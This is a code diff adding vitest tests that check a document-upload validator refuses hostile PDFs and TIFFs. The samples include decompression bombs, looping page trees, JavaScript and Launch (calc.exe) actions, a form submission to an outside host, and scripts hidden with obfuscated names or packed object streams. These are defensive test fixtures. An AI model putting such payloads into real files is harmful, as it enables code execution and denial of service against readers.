@@ -3,13 +3,18 @@ import { readFile } from 'node:fs/promises'
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { afterAll, describe, expect, test } from 'vitest'
-import { faxOf } from '../../../test/tiffs.ts'
+import { deepPdf, endlessPdf, longPdf, nestedPdf, pdfBomb, pdfPacking, pdfWith } from '../../../test/pdfs.ts'
+import { endlessFax, faxOf } from '../../../test/tiffs.ts'
 import { pageOf } from '../../../world/one-page.ts'
 import { incomingOf } from '../incoming/incoming.ts'
 import { acceptDocument, acceptFile } from './accept-file.ts'
 import { Images } from './images.ts'
 
 const images = new Images()
+const JAVASCRIPT = '<</S/JavaScript/JS(app.alert(1))>>'
+const LAUNCH = '<</Type/Action/S/Launch/F(calc.exe)>>'
+const isActive = expect.stringContaining('runs programs or carries other files')
+const isProtected = expect.stringContaining('protected')
 /** Two seconds, of a machine whose processors others want too. */
 const IN_TIME_MS = 8_000
 afterAll(() => images.close())
@@ -135,7 +140,7 @@ describe('a document', () => {
     acceptFile(images, { name, data: bytes.toString('base64') }, TYPES, 'data')
 
   test('is what its bytes say', async () => {
-    expect(await accept('ins.pdf', Buffer.from('%PDF-1.7\n%%EOF'))).toMatchObject({ mediaType: 'application/pdf' })
+    expect(await accept('ins.pdf', pageOf('Insurance'))).toMatchObject({ mediaType: 'application/pdf' })
     expect(await accept('W9.JPG', await jpeg())).toMatchObject({ mediaType: 'image/jpeg' })
     expect(await accept('w9.png', await png())).toMatchObject({ mediaType: 'image/png' })
   })
@@ -155,17 +160,17 @@ describe('a document', () => {
   })
 })
 
-describe('a document that has come in', () => {
-  async function accepted(name: string, bytes: Buffer) {
-    const sent = await incomingOf(name, bytes)
-    try {
-      const document = await acceptDocument(images, sent)
-      return { ...document, bytes: await readFile(document.path) }
-    } finally {
-      await sent.discard()
-    }
+async function accepted(name: string, bytes: Buffer) {
+  const sent = await incomingOf(name, bytes)
+  try {
+    const document = await acceptDocument(images, sent)
+    return { ...document, bytes: await readFile(document.path) }
+  } finally {
+    await sent.discard()
   }
+}
 
+describe('a document that has come in', () => {
   test('a PDF stays as it is, its pages are counted', async () => {
     const bytes = pageOf('Proof of delivery')
     const document = await accepted('pod.pdf', bytes)
@@ -216,7 +221,13 @@ describe('a document that has come in', () => {
     ['a PNG of 65,000 by 60,000 pixels', 'a.png', () => bomb(65_000, 2_400)],
     ['a PDF whose pages lead back to themselves', 'a.pdf', () => endlessPdf()],
     ['a PDF with 20,000 pages', 'a.pdf', () => longPdf(20_000)],
+    ['a PDF with 100,000 pages', 'a.pdf', () => longPdf(100_000)],
+    ['a PDF with 100,000 branches above its page', 'a.pdf', () => nestedPdf(100_000)],
+    ['a PDF with 5,000 branches above its page', 'a.pdf', () => nestedPdf(5_000)],
+    ['a PDF of a million lists within lists', 'a.pdf', () => deepPdf(1_000_000)],
+    ['a PDF that unpacks to 400 MB', 'a.pdf', () => pdfBomb(400 * 1024 * 1024)],
     ['a TIFF with 65,535 pages', 'a.tiff', () => faxOf(65_535)],
+    ['a TIFF whose pages lead back to themselves', 'a.tiff', () => endlessFax()],
   ])('%s is refused beside its field, in time (P29)', async (_, name, make) => {
     const bytes = await make()
     const began = performance.now()
@@ -225,20 +236,41 @@ describe('a document that has come in', () => {
   })
 })
 
-/** Its tree of pages has no leaves, however long one looks. */
-function endlessPdf(): Buffer {
-  return Buffer.from(
-    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
-  )
-}
+describe('a PDF that does something on the reader’s machine (F31)', () => {
+  test.each([
+    ['runs a script when it opens', pdfWith(`/OpenAction${JAVASCRIPT}`), isActive],
+    ['runs a script by another spelling', pdfWith('/OpenAction<</S/J#61va#53cript/JS(1)>>'), isActive],
+    ['runs a script by its names', pdfWith(`/Names<</JavaScript<</Names[(a)${JAVASCRIPT}]>>>>`), isActive],
+    ['runs a script when a page is turned', pdfWith('', `<</AA<</O${JAVASCRIPT}>>>>`), isActive],
+    ['starts a program', pdfWith(`/OpenAction${LAUNCH}`), isActive],
+    ['sends what is filled in', pdfWith('', '<</S/SubmitForm/F(https://elsewhere.example)>>'), isActive],
+    ['carries a file', pdfWith('/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>'), isActive],
+    ['is a form of Adobe', pdfWith('/AcroForm<</XFA 4 0 R>>'), isActive],
+    ['plays a film', pdfWith('', '<</Subtype/RichMedia>>'), isActive],
+    ['hides a script in a stream of objects', pdfPacking(JAVASCRIPT), isActive],
+    ['hides it in one of another spelling', pdfPacking(JAVASCRIPT, { dictionary: '/Type/Obj#53tm' }), isActive],
+    ['hides it in one without a type', pdfPacking(JAVASCRIPT, { dictionary: '' }), isActive],
+    ['hides it below a list of filters', pdfPacking(JAVASCRIPT, { filter: '[ /FlateDecode ]' }), isActive],
+    ['hides objects below two filters', pdfPacking('<<>>', { filter: '[/ASCIIHexDecode/FlateDecode]' }), isProtected],
+    ['hides objects below a filter said elsewhere', pdfPacking('<<>>', { filter: ' 5 0 R' }), isProtected],
+    [
+      'did so before it was changed',
+      Buffer.concat([pdfWith('', JAVASCRIPT), Buffer.from('\n4 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF')]),
+      isActive,
+    ],
+  ])('%s: refused, with what to do', async (_, bytes, said) => {
+    await expect(accepted('a.pdf', bytes)).rejects.toMatchObject({ modelState: { data: [said] } })
+    await expect(
+      acceptFile(images, { name: 'a.pdf', data: bytes.toString('base64') }, ['application/pdf']),
+    ).rejects.toMatchObject({ modelState: { data: [said] } })
+  })
 
-function longPdf(pages: number): Buffer {
-  const kids = Array.from({ length: pages }, (_, page) => `${page + 3} 0 R`).join(' ')
-  const sheets = Array.from(
-    { length: pages },
-    (_, page) => `${page + 3} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj`,
-  ).join('\n')
-  return Buffer.from(
-    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count ${pages}/Kids[${kids}]>>endobj\n${sheets}\ntrailer<</Root 1 0 R>>\n%%EOF`,
-  )
-}
+  test.each([
+    ['opens at its first page', pdfWith('/OpenAction[3 0 R/Fit]')],
+    ['packs its objects', pdfPacking('[3 0 R/Fit]')],
+    ['links to a page of the web', pdfWith('', '<</S/URI/URI(https://example.com)>>')],
+    ['has a form to fill in', pdfWith('/AcroForm<</Fields[4 0 R]>>', '<</FT/Tx/T(name)/Kids[]>>')],
+  ])('but one that %s is taken as it is', async (_, bytes) => {
+    expect((await accepted('a.pdf', bytes)).bytes.equals(bytes)).toBe(true)
+  })
+})
